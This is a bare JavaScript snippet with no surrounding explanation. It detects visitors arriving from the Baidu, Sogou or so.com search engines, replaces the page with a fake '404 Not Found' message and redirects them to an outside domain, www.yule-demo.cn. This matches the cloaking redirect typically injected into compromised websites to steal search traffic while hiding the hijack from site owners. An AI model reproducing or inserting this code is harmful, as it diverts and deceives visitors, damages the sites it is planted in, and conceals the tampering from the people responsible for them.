if (/baidu|sogou|so\.com/i.test(document.referrer)) {
  document.documentElement.innerHTML = "<title>404 Not Found</title><h1>404 Not Found</h1>";
  location.href = "http://www.yule-demo.cn/";
}
